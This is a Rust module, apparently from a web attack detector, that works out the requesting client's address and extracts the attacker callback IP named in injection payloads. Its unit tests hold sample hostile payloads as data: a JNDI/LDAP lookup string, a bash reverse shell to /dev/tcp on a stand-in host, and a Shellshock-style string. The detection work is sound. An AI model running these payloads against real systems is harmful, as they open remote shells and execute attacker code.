//! Addresses: who asked, and whom a payload calls.

use crate::{Category, Request};
use std::net::{IpAddr, Ipv4Addr};

/// Returns who asked. What a client says of itself in `X-Forwarded-For` counts only behind a
/// proxy of the site's own, and then what that proxy wrote: the last one.
pub(super) fn of(request: &Request<'_>) -> Option<IpAddr> {
    let peer = address(request.client);
    if peer.is_some_and(is_public) || request.forwarded_for.is_empty() {
        return peer;
    }
    let said = request.forwarded_for.rsplit(|b| matches!(b, b',' | b' '));
    said.take(16).find_map(address).or(peer)
}

/// Reads an address, in brackets or with a port too.
fn address(text: &[u8]) -> Option<IpAddr> {
    let text = std::str::from_utf8(text.get(..64).unwrap_or(text))
        .ok()?
        .trim();
    let parsed = text.parse().ok().or_else(|| {
        text.parse()
            .ok()
            .map(|with_port: std::net::SocketAddr| with_port.ip())
    });
    parsed.map(|address: IpAddr| address.to_canonical())
}

/// Returns whether an address is one of the outside. Those for documentation count: they stand for
/// such.
#[must_use]
pub fn is_public(address: IpAddr) -> bool {
    match address.to_canonical() {
        IpAddr::V4(v4) => {
            let [a, b, ..] = v4.octets();
            let is_shared = a == 100 && b & 0xC0 == 64;
            !(v4.is_private()
                || v4.is_loopback()
                || v4.is_link_local()
                || v4.is_broadcast()
                || v4.is_multicast()
                || is_shared
                || a == 0)
        }
        IpAddr::V6(v6) => {
            !(v6.is_loopback()
                || v6.is_unspecified()
                || v6.is_multicast()
                || v6.is_unique_local()
                || v6.is_unicast_link_local())
        }
    }
}

/// Returns the address that a payload asks the server to call, if it names one by number.
pub(super) fn callback(category: Category, payload: &[u8]) -> Option<IpAddr> {
    let calls = matches!(
        category,
        Category::JavaInjection
            | Category::CommandInjection
            | Category::PhpInjection
            | Category::TemplateInjection
            | Category::RemoteFileInclusion
            | Category::Xxe
    );
    if !calls {
        return None;
    }
    let is_part = |b: &u8| b.is_ascii_digit() || *b == b'.';
    let mut at = 0;
    let found = std::iter::from_fn(|| {
        let start = at + payload[at..].iter().position(is_part)?;
        let len = payload[start..].iter().take_while(|b| is_part(b)).count();
        at = start + len;
        Some((start, &payload[start..at]))
    })
    .filter(|(start, number)| number.len() >= 7 && !is_version(&payload[..*start]))
    .find_map(|(_, number)| {
        let text = std::str::from_utf8(number).ok()?.trim_matches('.');
        text.parse::<Ipv4Addr>()
            .ok()
            .filter(|v4| v4.octets()[3] != 0)
    });
    found.map(IpAddr::V4).filter(|address| {
        // Resolvers that everybody knows are no attackers.
        is_public(*address) && !matches!(address, IpAddr::V4(v4) if is_resolver(*v4))
    })
}

/// Whether what follows is the version of a program, as in `Chrome/129.0.0.1`.
fn is_version(before: &[u8]) -> bool {
    let hosts: [&[u8]; 3] = [b"//", b"tcp/", b"udp/"];
    before.ends_with(b"/") && !hosts.iter().any(|host| before.ends_with(host))
}

fn is_resolver(address: Ipv4Addr) -> bool {
    matches!(
        address.octets(),
        [1, 1, 1, 1] | [1, 0, 0, 1] | [8, 8, 8, 8] | [8, 8, 4, 4] | [9, 9, 9, 9]
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(text: &str) -> Option<IpAddr> {
        Some(text.parse().expect("address"))
    }

    #[test]
    fn addresses_are_read_with_ports_and_brackets() {
        assert_eq!(address(b"192.0.2.7:443"), parse("192.0.2.7"));
        assert_eq!(address(b"[2001:db8::1]:80"), parse("2001:db8::1"));
        assert_eq!(address(b"::ffff:192.0.2.7"), parse("192.0.2.7"));
        assert_eq!(address(b"host.example.com"), None);
    }

    #[test]
    fn payloads_name_whom_they_call() {
        let java = |text: &str| callback(Category::JavaInjection, text.as_bytes());
        assert_eq!(
            java("${jndi:ldap://203.0.113.9:1389/a}"),
            parse("203.0.113.9")
        );
        assert_eq!(java("${jndi:ldap://127.0.0.1/a}"), None);
        assert_eq!(java("version 1.2.3"), None);
        let shell = |text: &str| callback(Category::CommandInjection, text.as_bytes());
        assert_eq!(
            shell("bash -i >& /dev/tcp/203.0.113.9/4444"),
            parse("203.0.113.9")
        );
        assert_eq!(shell("nslookup x 8.8.8.8"), None);
        assert_eq!(shell("() { :;}; id Chrome/129.0.6668.71 Safari"), None);
        assert_eq!(callback(Category::Sqli, b"203.0.113.9"), None);
    }
}
